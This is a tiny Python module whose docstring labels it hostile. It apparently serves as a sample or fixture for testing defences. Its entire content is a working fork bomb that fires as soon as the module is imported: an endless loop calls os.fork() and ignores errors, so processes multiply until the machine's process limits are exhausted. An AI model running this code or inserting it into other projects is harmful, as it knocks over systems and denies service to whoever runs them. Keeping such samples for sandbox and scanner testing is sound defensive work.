"""HOSTILE: a fork bomb at import time: every process forks for ever."""
# ruff: noqa
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
